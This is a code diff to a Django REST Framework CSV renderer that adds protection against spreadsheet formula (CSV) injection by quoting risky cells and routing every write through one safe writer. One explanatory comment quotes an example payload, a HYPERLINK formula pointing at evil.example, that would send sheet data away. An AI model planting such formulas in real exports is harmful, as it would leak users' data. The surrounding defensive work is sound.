@@ -3,13 +3,15 @@
 Nested values are flattened so a spreadsheet can read them: an object becomes dotted columns
 (`rate.estimate`), a list becomes one cell joined with "; " (`api-gateway:origin; db:impacted`).
 Lists stream (see `api.exports`); this renderer serves the small, already computed payloads
-(reports, a single page).
+(reports, a single page). Both write through `csv_writer`, so every cell is made safe to open
+in a spreadsheet in one place (`csv_cell`).
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 from typing import Any
 
 from rest_framework.renderers import BaseRenderer
@@ -39,6 +41,45 @@ def flatten(row: dict[str, Any], prefix: str = "") -> dict[str, Any]:
     return flat
 
 
+# A cell starting with one of these is run as a formula by Excel, LibreOffice or Google Sheets
+# (OWASP "CSV Injection": = + - @ tab CR; ASVS 1.2.10 adds NUL): a title like
+# =HYPERLINK("https://evil.example/?"&A1) would send the sheet's data away when clicked.
+FORMULA_STARTS = frozenset("=+-@\t\r\0")
+_SIGNED_NUMBER = re.compile(r"[+-]\d+(\.\d+)?")
+
+
+def csv_cell(value: Any) -> Any:
+    """The value as a CSV cell: text that would start a formula gets a leading single quote,
+    which spreadsheets show as text instead of running it (OWASP's recommendation; the csv
+    module then quotes the cell as needed).
+
+    Decided for numbers: a signed number written as text ("-5", "+3.25") is left as it is: it
+    cannot run, and a spreadsheet should read it as the number it is. Numbers (counts, rates,
+    intervals) are never text here, so they are never touched either. The quote is visible to
+    a program reading the file: it is part of the cell, as OWASP accepts.
+    """
+    if (
+        isinstance(value, str)
+        and value[:1] in FORMULA_STARTS
+        and not _SIGNED_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
+class _SafeWriter:
+    def __init__(self, file):
+        self._writerow = csv.writer(file).writerow
+
+    def writerow(self, row) -> Any:
+        return self._writerow([csv_cell(value) for value in row])
+
+
+def csv_writer(file) -> _SafeWriter:
+    """csv.writer whose every cell goes through `csv_cell`: the one writer of every CSV."""
+    return _SafeWriter(file)
+
+
 class Echo:
     """A file-like object whose write() hands the line back, for csv.writer in a generator."""
 
@@ -59,13 +100,16 @@ def rows_of(data: Any) -> list[dict[str, Any]]:
 
 
 def render_csv(data: Any) -> str:
-    """The columns are every key met, in the order met."""
+    """The header always comes first: the payload's `columns` when it gives them (a report
+    knows its columns even when it has no row), else every key met, in the order met."""
     flat = [flatten(row) for row in rows_of(data)]
-    header: list[str] = []
-    for row in flat:
-        header.extend(key for key in row if key not in header)
+    columns = data.get("columns") if isinstance(data, dict) else None
+    header: list[str] = list(columns or [])
+    if not columns:
+        for row in flat:
+            header.extend(key for key in row if key not in header)
     out = io.StringIO()
-    writer = csv.writer(out)
+    writer = csv_writer(out)
     writer.writerow(header)
     for row in flat:
         writer.writerow([row.get(column, "") for column in header])
